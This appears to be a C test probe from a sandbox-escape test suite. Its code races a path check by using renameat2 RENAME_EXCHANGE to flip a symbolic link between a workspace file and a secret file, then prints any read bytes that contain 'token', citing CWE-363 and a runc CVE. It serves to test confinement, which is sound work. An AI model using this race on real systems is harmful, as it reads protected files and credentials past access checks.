// tries: to open through a symbolic link that flips between the workspace and the secret
// works: a check that resolves the link and an open that resolves it again can differ
// see: CWE-363; CVE-2021-30465 (runc, symlink exchange)
// goal: read
// unrecorded: who loses every race meets nothing that could be refused
#include "../kit.h"

static volatile int flips_over;

static void *flip_link(void *unused)
{
	const char *one = join(env("WORK"), "/to-own"), *two = join(env("WORK"), "/to-secret");
	const char *name = join(env("WORK"), "/flip");

	symlink(join(env("WORK"), "/own"), one);
	symlink(env("SECRET"), two);
	symlink(env("SECRET"), name);
	while (!flips_over) {
		renameat2(AT_FDCWD, one, AT_FDCWD, name, RENAME_EXCHANGE);
		sched_yield();
		renameat2(AT_FDCWD, two, AT_FDCWD, name, RENAME_EXCHANGE);
	}
	return NULL;
}

int main(void)
{
	const char *name = join(env("WORK"), "/flip");
	time_t end = time(NULL) + 3;
	pthread_t thread;

	mark(MUST(open(join(env("WORK"), "/own"), O_WRONLY | O_CREAT, 0600)));
	pthread_create(&thread, NULL, flip_link, NULL);
	while (!flips_over && time(NULL) < end) {
		char bytes[64] = "";
		int fd = open(name, O_RDONLY);
		if (fd >= 0 && read(fd, bytes, 63) > 0 && strstr(bytes, "token")) {
			puts(bytes);
			flips_over = 1;
		}
		if (fd >= 0)
			close(fd);
	}
	flips_over = 1;
	pthread_join(thread, NULL);
	return 0;
}
